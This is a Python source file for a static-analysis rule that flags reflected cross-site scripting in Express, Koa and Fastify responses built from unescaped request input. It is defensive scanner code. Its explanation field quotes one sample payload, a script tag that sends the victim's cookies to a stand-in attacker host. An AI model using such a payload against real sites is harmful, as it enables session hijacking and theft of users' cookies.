"""JS-XSS-003 xss-express-response-reflects-input: request input sent back as HTML.

**What it finds.** Express/Koa/Fastify responses (`res.send`, `res.write`,
`res.end`, `reply.send`, `ctx.body =`) whose body is a string containing
request input (`req.query`, `req.body`, `req.params`, headers, cookies) that
was not HTML-escaped. `res.send` of a string is served as `text/html`, so the
browser renders the input as markup.

**Not reported.** `res.json(...)`, objects (sent as JSON), the results of
functions given the input (`res.send(await users.create(req.body))`: a record,
sent as JSON), escaped values
(`escapeHtml`, `he.encode`), numbers, test code (supertest/jest apps echo
input on purpose), and responses explicitly typed as plain
text or JSON before sending (`res.type("text/plain")`, `res.set("Content-Type", "application/json")`).

**Fix.** No automatic fix: escape the value (`escapeHtml(name)`), render
through a template engine that escapes by default, or send JSON/plain text.
"""

from __future__ import annotations

import re
from typing import Iterator

from tree_sitter import Node

from ...common.names import call_matches, calls_in, dotted_name, method_name, unit_nodes
from ...common.taint import source_of_name, taint_of
from ...context import AnalysisContext
from ...javascript.flow import SYN, reaching_definitions
from ...javascript.sources import HTML
from ...javascript.testcode import in_test_code
from ...javascript.triggers import last_parts
from ...model import Confidence, Finding, Severity
from ..base import Explanation, Rule, register
from .dom_xss import html_is_safe

RESPONSE_NAMES = frozenset({"res", "response", "reply", "resp"})
SEND_METHODS = frozenset({"send", "write", "end"})
KOA_BODIES = ("ctx.body", "ctx.response.body")
_NOT_HTML = re.compile(r"""(\.type\(\s*['"](text/plain|json|application/json|text|txt|application/octet-stream)|content-type['"]\s*,\s*['"](text/plain|application/json))""", re.IGNORECASE)


@register
class JsReflectedXss(Rule):
    id = "JS-XSS-003"
    name = "xss-express-response-reflects-input"
    cwe = 79
    owasp = "A03:2021"
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    languages = ("javascript",)
    # the response method (`res.send(...)`) or the written Koa body (`ctx.body =`); never the response's name, which is the handler's choice
    triggers = tuple(sorted(SEND_METHODS)) + last_parts(KOA_BODIES)
    summary = "Request input sent back unescaped in an HTML response (res.send/res.write)"
    explanation = Explanation(
        what="A response body built from request input is sent as HTML (`res.send(string)` sets `text/html`).",
        why=(
            "The page shows the search term or the name correctly, so it seems done. A link carrying markup in the "
            "parameter makes the browser run the attacker's script on your origin, with the victim's cookies."
        ),
        hostile_input="`/search?q=<script>fetch('//evil.example/'+document.cookie)</script>` sent to a logged-in user.",
        fix="Escape values with `escapeHtml()` (or a template engine that escapes), or send `res.json(...)` / plain text.",
    )

    def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
        for call in calls_in(ctx):
            body = self._response_body(ctx, call)
            if body is not None:
                yield from self._check_body(ctx, call, body)
        for node in unit_nodes(ctx, ("assignment_expression",)):
            left = node.child_by_field_name("left")
            if left is not None and dotted_name(ctx, left) in KOA_BODIES:
                yield from self._check_body(ctx, node, node.child_by_field_name("right"))

    def _check_body(self, ctx: AnalysisContext, sink: Node, body: Node | None) -> Iterator[Finding]:
        body = SYN.unwrap(body)
        if body is None or body.type in ("object", "array") or html_is_safe(ctx, body):
            return
        taint = taint_of(ctx, body, HTML)
        if taint is None or self._declared_not_html(ctx, sink) or in_test_code(ctx, sink):
            return
        if body.type not in ("template_string", "binary_expression", "string") and not _is_string_source(ctx, body, taint):
            return
        yield self.finding(ctx, sink, f"XSS: {taint.source} (line {taint.line}) is sent back unescaped as HTML; escape it or send JSON")

    @staticmethod
    def _response_body(ctx: AnalysisContext, call: Node) -> Node | None:
        method = method_name(ctx, call)
        if method not in SEND_METHODS:
            return None
        callee = SYN.unwrap(SYN.callee(call))
        base = SYN.unwrap(callee.child_by_field_name("object"))
        while base is not None and base.type == "call_expression":  # res.status(200).send(...)
            inner = SYN.unwrap(base.child_by_field_name("function"))
            base = SYN.unwrap(inner.child_by_field_name("object")) if inner is not None and inner.type == "member_expression" else None
        if base is None or base.type != "identifier" or ctx.text(base) not in RESPONSE_NAMES:
            return None
        args = SYN.arguments(call)
        return args[0] if args else None

    @staticmethod
    def _declared_not_html(ctx: AnalysisContext, sink: Node) -> bool:
        function = SYN.enclosing_function(sink)
        scope = function if function is not None else ctx.unit
        before = ctx.source[scope.start_byte : sink.end_byte].decode("utf-8", "replace")
        return bool(_NOT_HTML.search(before))


STRING_METHODS = frozenset(
    {
        "trim", "trimStart", "trimEnd", "toString", "toLowerCase", "toUpperCase", "toLocaleLowerCase", "toLocaleUpperCase",
        "replace", "replaceAll", "slice", "substring", "substr", "concat", "join", "padStart", "padEnd", "repeat",
        "normalize", "charAt", "at", "split", "format",
    }
)
STRING_CALLS = frozenset({"String", "decodeURIComponent", "decodeURI", "unescape", "util.format", "format", "JSON.stringify"})


def _is_string_source(ctx: AnalysisContext, node: Node, taint, depth: int = 0) -> bool:
    """Can this bare value be a string carrying the input? Request values are
    (unless the client sent an object: then JSON); so are string methods and
    conversions of them. The result of any other call is what that function
    built from the input, usually a record or an object
    (`await userService.createUser(req.body)`), which Express sends as JSON."""
    node = SYN.unwrap(node)
    if node is None or depth > 4:
        return False
    if node.type == "await_expression" and node.named_children:
        return _is_string_source(ctx, node.named_children[0], taint, depth + 1)
    if node.type == "call_expression":
        if call_matches(ctx, node, tuple(HTML.source_calls)) or call_matches(ctx, node, tuple(STRING_CALLS)):
            return True
        return method_name(ctx, node) in STRING_METHODS
    if node.type in ("member_expression", "subscript_expression"):
        if source_of_name(ctx, node, HTML) is not None:
            return True
        root = node
        while root.type in ("member_expression", "subscript_expression"):
            root = SYN.unwrap(root.child_by_field_name("object"))
            if root is None:
                return True
        return root.type != "identifier" or _is_string_source(ctx, root, taint, depth + 1)
    if node.type == "identifier":
        if source_of_name(ctx, node, HTML) is not None:
            return True
        definitions = reaching_definitions(ctx, node)
        values = [d.value for d in definitions if d.kind == "assign" and d.value is not None and not d.path]
        if not definitions or len(values) < len(definitions):
            return True  # parameters, destructured request fields, loop variables
        return any(_is_string_source(ctx, value, taint, depth + 1) for value in values)
    return node.type in ("template_string", "binary_expression", "string")
